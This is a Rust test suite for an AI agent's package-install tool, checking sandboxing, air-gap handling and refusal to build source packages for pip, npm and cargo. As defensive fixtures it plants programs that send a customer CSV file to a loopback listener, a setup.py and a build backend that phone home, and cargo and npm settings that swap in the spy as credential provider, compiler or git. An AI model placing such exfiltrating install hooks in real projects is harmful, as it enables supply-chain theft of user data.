//! Installing packages: nothing of the project runs or is asked where there is a network, and names
//! are names. The index is one on loopback, which the user's own configuration names.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "a test is allowed to fail loudly"
)]

use attacks::index::{Index, Pages};
use attacks::script::{Sitting, recast, results, sit, statuses};
use scenarios::Scene;
use serde_json::json;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use testkit::House;

const ATTENDED: [&str; 5] = ["--agent", "sysadmin", "--allow-write", ".", "install tiny"];

fn has(program: &str) -> bool {
    let found = Path::new("/usr/bin").join(program).is_file();
    if !found {
        eprintln!("NOT TESTED: there is no {program} here");
    }
    found
}

/// The bytes that a command prints.
fn made(program: &str, args: &[&str], folder: &Path) -> Vec<u8> {
    let done = Command::new(program)
        .args(args)
        .current_dir(folder)
        .output();
    done.unwrap().stdout
}

/// A package of each kind, and what a sparse index of cargo says.
fn pages(url: &str) -> Pages {
    let folder = House::new();
    folder.write(
        "package/package.json",
        r#"{"name": "tiny", "version": "1.0.0"}"#,
    );
    let packed = made("tar", &["-cz", "package"], &folder.work());
    let wheel = "import sys, zipfile\n\
        z = zipfile.ZipFile(sys.stdout.buffer, 'w')\n\
        z.writestr('tiny.py', 'x = 1\\n')\n\
        z.writestr('tiny-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n')\n\
        z.writestr('tiny-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        z.writestr('tiny-1.0.dist-info/RECORD', '')\n\
        z.close()\n";
    let wheel = made("/usr/bin/python3", &["-c", wheel], &folder.work());
    let file = "tiny-1.0-py3-none-any.whl";
    let about = json!({
        "name": "tiny",
        "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {
            "name": "tiny", "version": "1.0.0",
            "dist": {"tarball": format!("{url}/npm/tiny/-/tiny-1.0.0.tgz")},
        }},
    });
    let listed = json!({
        "name": "tiny", "vers": "1.0.0", "deps": [], "cksum": "0".repeat(64), "features": {},
        "yanked": false,
    });
    let link = format!("<a href=\"{url}/files/{file}\">{file}</a>");
    let source = format!("<a href=\"{url}/files/raw-1.0.tar.gz\">raw-1.0.tar.gz</a>");
    BTreeMap::from([
        ("/simple/tiny/".to_owned(), ("text/html", link.into_bytes())),
        (
            "/simple/raw/".to_owned(),
            ("text/html", source.into_bytes()),
        ),
        (format!("/files/{file}"), ("application/zip", wheel)),
        (
            "/npm/tiny".to_owned(),
            ("application/json", about.to_string().into_bytes()),
        ),
        (
            "/npm/tiny/-/tiny-1.0.0.tgz".to_owned(),
            ("application/octet-stream", packed),
        ),
        (
            "/cargo/config.json".to_owned(),
            (
                "application/json",
                json!({"dl": format!("{url}/dl")}).to_string().into_bytes(),
            ),
        ),
        (
            "/cargo/ti/ny/tiny".to_owned(),
            ("text/plain", listed.to_string().into_bytes()),
        ),
    ])
}

/// A house whose user has an index of packages.
fn house(index: &Index) -> House {
    let house = House::new();
    let own = |name: &str, text: String| {
        let place = house.home().join(name);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        fs::write(place, text).unwrap();
    };
    let url = index.url();
    own(
        ".config/pip/pip.conf",
        format!("[global]\nindex-url = {url}/simple\n"),
    );
    own(".npmrc", format!("registry={url}/npm/\n"));
    own(
        ".cargo/config.toml",
        format!(
            "[source.crates-io]\nreplace-with = \"mine\"\n[source.mine]\nregistry = \
             \"sparse+{url}/cargo/\"\n"
        ),
    );
    house.write("customers.csv", "alice,4711\n");
    house
}

fn install(house: House, manager: &str, name: &str, dry_run: bool) -> (Scene, Sitting) {
    let arguments = json!({"manager": manager, "names": [name], "dry_run": dry_run});
    let scene = recast(house, &[("package_install", arguments)]);
    let sitting = sit(&scene, &ATTENDED, |_, _| "y".to_owned());
    (scene, sitting)
}

fn told(sitting: &Sitting) -> String {
    let texts = sitting.of_kind("tool_result").into_iter();
    texts
        .map(|event| event["text"].as_str().unwrap_or_default())
        .collect()
}

/// A program that sends a file of the project out as soon as it is started.
fn spy(house: &House, name: &str, port: u16) {
    let text = format!(
        "#!/usr/bin/python3\nimport socket, sys\ns = socket.create_connection(('127.0.0.1', {port}))\n\
         s.send(b'EXFIL ' + open('{}', 'rb').read() + b'\\n\\n')\ns.close()\n",
        house.work().join("customers.csv").display()
    );
    let file = house.write(name, text);
    fs::set_permissions(file, fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn an_honest_pip_install_needs_one_question() {
    if !has("python3") {
        return;
    }
    let index = Index::start(pages);
    let (scene, sitting) = install(house(&index), "pip", "tiny", false);
    assert_eq!(sitting.statuses(), ["ok"], "{:#?}", sitting.seen);
    assert_eq!(sitting.seen.questions.len(), 1);
    let question = &sitting.seen.questions[0];
    assert!(question.contains("including loopback"), "{question}");
    let (_, in_short) = question.rsplit_once("In short: ").unwrap();
    for named in ["names: [\"tiny\"]", "manager: pip", "dry_run: false"] {
        assert!(in_short.contains(named), "{question}");
    }
    let found = made("find", &[".venv", "-name", "tiny.py"], &scene.house.work());
    assert!(!found.is_empty(), "{}", told(&sitting));
    // Once more, into the environment that is there now.
    let index = Index::start(pages);
    let again = house(&index);
    let made = Command::new("/usr/bin/python3")
        .args(["-m", "venv", ".venv"])
        .current_dir(again.work())
        .status();
    assert!(made.unwrap().success());
    let (scene, sitting) = install(again, "pip", "tiny", false);
    let script = ".venv/bin/python -c 'import tiny; print(tiny.x)'";
    let done = Command::new("sh")
        .args(["-c", script])
        .current_dir(scene.house.work())
        .output();
    assert_eq!(done.unwrap().stdout, b"1\n", "{}", told(&sitting));
}

/// An index whose wheels name what lies elsewhere, and a tree of packages that is honest.
const TREE: &str = r#"
import io, json, sys, tarfile, zipfile
url, spy = sys.argv[1:]
pages = {}
def put(path, content):
    pages[path] = content.hex()
def wheel(name, version, needs):
    packed, about = io.BytesIO(), f'{name}-{version}.dist-info'
    with zipfile.ZipFile(packed, 'w') as archive:
        archive.writestr(f'{name}.py', f'x = "{version}"\n')
        needed = ''.join(f'Requires-Dist: {need}\n' for need in needs)
        extra = 'Provides-Extra: more\n'
        archive.writestr(f'{about}/METADATA',
            f'Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{extra}{needed}')
        archive.writestr(f'{about}/WHEEL',
            'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        archive.writestr(f'{about}/RECORD', '')
    put(f'/files/{name}-{version}-py3-none-any.whl', packed.getvalue())
    index = bytes.fromhex(pages.get(f'/simple/{name}/', ''))
    file = f'{name}-{version}-py3-none-any.whl'
    put(f'/simple/{name}/', index + f'<a href="{url}/files/{file}">{file}</a>'.encode())
def source(name, files):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode='w:gz') as archive:
        for file, text in files.items():
            entry = tarfile.TarInfo(f'{name}-1.0/{file}')
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    put(f'/files/{name}-1.0.tar.gz', packed.getvalue())
evil = f"import socket\nsocket.create_connection(('127.0.0.1', {spy})).send(b'RAN\\n\\n')\n"
setup = evil + "from setuptools import setup\nsetup(name='legacy', version='1.0')\n"
source('legacy', {'setup.py': setup})
tree = '[build-system]\nrequires = []\nbuild-backend = "inside"\nbackend-path = ["."]\n'
source('modern', {'pyproject.toml': tree, 'inside.py': evil})
for name in 'legacy', 'modern':
    wheel('good' + name, '1.0', [f'{name} @ {url}/files/{name}-1.0.tar.gz'])
wheel('root', '1.0', ['branch[more]>=1,<2', 'absent; python_version < "3"', 'leaf!=1.5'])
wheel('branch', '1.0', ['leaf<2; extra == "more"', 'unasked; extra == "other"'])
wheel('branch', '2.0', ['missing'])
for version in '1.0', '1.4', '1.5', '2.0':
    wheel('leaf', version, ['root; extra == "more"'])
json.dump(pages, sys.stdout)
"#;

fn tree(url: &str, spy: u16) -> Pages {
    let args = ["-c", TREE, url, &spy.to_string()];
    let made = made("/usr/bin/python3", &args, Path::new("/"));
    let texts: BTreeMap<String, String> = serde_json::from_slice(&made).unwrap();
    let pages = texts.into_iter().map(|(path, content)| {
        let digits = content.as_bytes().chunks(2);
        let bytes = digits.map(|two| u8::from_str_radix(str::from_utf8(two).unwrap(), 16).unwrap());
        let kind = match path.starts_with("/simple") {
            true => "text/html",
            false => "application/octet-stream",
        };
        (path, (kind, bytes.collect()))
    });
    pages.collect()
}

#[test]
fn what_a_package_names_by_address_is_not_built() {
    if !has("python3") {
        return;
    }
    for name in ["goodlegacy", "goodmodern"] {
        // The control: the same packages run code where pip may start programs.
        let spied = Index::start(|_| Pages::new());
        let index = Index::start(|url| tree(url, spied.port()));
        let outside = House::new();
        let simple = format!("{}/simple", index.url());
        let plain = [
            "-I",
            "-m",
            "pip",
            "--isolated",
            "download",
            "--only-binary",
            ":all:",
        ];
        let plain = [
            &plain[..],
            &["--no-cache-dir", "--index-url", &simple, name],
        ]
        .concat();
        let printed = made("/usr/bin/python3", &plain, &outside.work());
        let printed = String::from_utf8_lossy(&printed);
        assert!(!spied.asked().is_empty(), "{name}: {printed}");
        for dry_run in [true, false] {
            let spied = Index::start(|_| Pages::new());
            let index = Index::start(|url| tree(url, spied.port()));
            let (scene, sitting) = install(house(&index), "pip", name, dry_run);
            let text = told(&sitting);
            assert_eq!(
                spied.asked(),
                Vec::<String>::new(),
                "{name} {dry_run}: {text}"
            );
            assert!(index.asked().concat().contains(name), "{name}: {text}");
            assert!(
                text.contains("building one runs its code"),
                "{name}: {text}"
            );
            assert!(!scene.house.has(".venv"), "{name}: {text}");
        }
    }
}

#[test]
fn an_honest_tree_of_packages_installs() {
    if !has("python3") {
        return;
    }
    let index = Index::start(|url| tree(url, 1));
    let (scene, sitting) = install(house(&index), "pip", "root", false);
    assert_eq!(sitting.seen.questions.len(), 1, "{:#?}", sitting.seen);
    let script = ".venv/bin/python -c 'import root, branch, leaf; print(branch.x, leaf.x)'";
    let printed = made("sh", &["-c", script], &scene.house.work());
    let text = told(&sitting);
    assert_eq!(String::from_utf8_lossy(&printed), "1.0 1.4\n", "{text}");
}

#[test]
fn an_honest_npm_install_needs_one_question() {
    if !has("npm") {
        return;
    }
    let index = Index::start(pages);
    let house = house(&index);
    house.write("package.json", r#"{"name": "mine", "version": "1.0.0"}"#);
    let (scene, sitting) = install(house, "npm", "tiny", false);
    assert_eq!(sitting.seen.questions.len(), 1, "{:#?}", sitting.seen);
    let text = told(&sitting);
    assert!(scene.house.has("node_modules/tiny/package.json"), "{text}");
    assert!(scene.house.read("package.json").contains("tiny"));
}

/// A house with cargo, if there is one, and a project for it.
fn crate_house(index: &Index) -> Option<House> {
    let house = house(index);
    let home = std::env::var_os("HOME").unwrap_or_default();
    let chains = Path::new(&home).join(".rustup/toolchains");
    if chains.is_dir() {
        fs::create_dir_all(house.home().join(".rustup")).unwrap();
        std::os::unix::fs::symlink(chains, house.home().join(".rustup/toolchains")).unwrap();
    } else if !has("cargo") {
        return None;
    }
    let manifest = "[package]\nname = \"mine\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    house.write("Cargo.toml", manifest);
    house.write("src/lib.rs", "");
    Some(house)
}

#[test]
fn an_honest_cargo_add_needs_one_question() {
    let index = Index::start(pages);
    let Some(house) = crate_house(&index) else {
        return;
    };
    let (scene, sitting) = install(house, "cargo", "tiny", false);
    assert_eq!(sitting.seen.questions.len(), 1, "{:#?}", sitting.seen);
    let manifest = scene.house.read("Cargo.toml");
    let text = told(&sitting);
    assert!(manifest.contains("tiny = \"1.0.0\""), "{manifest} {text}");
}

#[test]
fn what_a_cargo_project_names_has_no_network() {
    for dry_run in [true, false] {
        let index = Index::start(pages);
        let Some(house) = crate_house(&index) else {
            return;
        };
        let spied = Index::start(|_| Pages::new());
        spy(&house, "cred", spied.port());
        let work = house.work().display().to_string();
        let config = format!(
            "[registry]\nglobal-credential-providers = [\"{work}/cred\"]\n\
             [build]\nrustc = \"{work}/cred\"\n\
             [source.crates-io]\nreplace-with = \"theirs\"\n\
             [source.theirs]\nregistry = \"sparse+{}/theirs/\"\n",
            spied.url()
        );
        house.write(".cargo/config.toml", config);
        let (_scene, sitting) = install(house, "cargo", "tiny", dry_run);
        let text = told(&sitting);
        assert_eq!(spied.asked(), Vec::<String>::new(), "{dry_run}: {text}");
        assert!(!index.asked().is_empty(), "{dry_run}: {text}");
    }
}

#[test]
fn a_project_runs_nothing_where_there_is_a_network() {
    for (manager, program) in [("pip", "python3"), ("npm", "npm")] {
        if !has(program) {
            continue;
        }
        for dry_run in [true, false] {
            let index = Index::start(pages);
            let spied = Index::start(|_| Pages::new());
            let house = house(&index);
            for name in [".venv/bin/pip", ".venv/bin/python", "tools/git"] {
                spy(&house, name, spied.port());
            }
            house.write(".npmrc", "git=./tools/git\nregistry=http://127.0.0.1:1/\n");
            let depends =
                r#"{"name": "mine", "dependencies": {"x": "git+ssh://git@example.org/x.git"}}"#;
            house.write("package.json", depends);
            house.write("pip.conf", "[global]\nindex-url = http://127.0.0.1:1/\n");
            // The control: outside the sandbox each of them sends.
            let tried = Command::new(house.work().join("tools/git")).status();
            assert!(tried.unwrap().success());
            let (_scene, sitting) = install(house, manager, "tiny", dry_run);
            let text = told(&sitting);
            assert_eq!(spied.asked().len(), 1, "{manager} {dry_run}: {text}");
            assert!(!index.asked().is_empty(), "{manager} {dry_run}: {text}");
        }
    }
}

#[test]
fn the_air_gap_holds_packages_and_asks_nothing() {
    if !has("python3") {
        return;
    }
    let flags = [&["--air-gap"][..], &ATTENDED].concat();
    for (flags, is_open) in [(&flags[..], false), (&ATTENDED, true)] {
        for dry_run in [true, false] {
            let index = Index::start(pages);
            let arguments = json!({"manager": "pip", "names": ["tiny"], "dry_run": dry_run});
            let scene = recast(house(&index), &[("package_install", arguments)]);
            let sitting = sit(&scene, flags, |_, _| "y".to_owned());
            assert_eq!(!index.asked().is_empty(), is_open, "{:#?}", sitting.seen);
            assert_eq!(sitting.seen.questions.len(), usize::from(is_open));
            assert_eq!(told(&sitting).contains("the air gap forbids"), !is_open);
        }
    }
}

#[test]
fn a_file_is_no_package_name() {
    for name in [
        "evil-1.0-py3-none-any.whl",
        "x.zip",
        "x.tar.gz",
        "x.tgz",
        "plain",
    ] {
        let index = Index::start(pages);
        let house = house(&index);
        house.write(name, "evil");
        for manager in ["pip", "npm", "cargo"] {
            let arguments = json!({"manager": manager, "names": [name], "dry_run": false});
            let scene = recast(House::new(), &[("package_install", arguments)]);
            scene.house.write(name, "evil");
            let flags = [
                "--agent",
                "sysadmin",
                "--allow-write",
                ".",
                "--yes",
                "config",
            ];
            let outcome = scene.run(&[&flags[..], &["install it"]].concat());
            assert_ne!(statuses(&outcome), ["ok"], "{manager} {name}");
            let told = results(&scene, &outcome).concat();
            assert!(told.contains(name), "{manager} {name}: {told}");
        }
        assert!(index.asked().is_empty());
    }
    let scene = recast(
        House::new(),
        &[(
            "package_install",
            json!({"manager": "brew", "names": ["x"]}),
        )],
    );
    let outcome = scene.run(&["--agent", "sysadmin", "install it"]);
    let told = results(&scene, &outcome).concat();
    assert!(
        told.contains(r#"is none of "apt", "pip", "cargo", "npm""#),
        "{told}"
    );
}

#[test]
fn what_is_not_built_is_refused() {
    if !has("python3") {
        return;
    }
    let index = Index::start(pages);
    let (scene, sitting) = install(house(&index), "pip", "raw", false);
    let text = told(&sitting);
    assert!(text.contains("building one runs its code"), "{text}");
    assert!(!scene.house.has(".venv"));
}
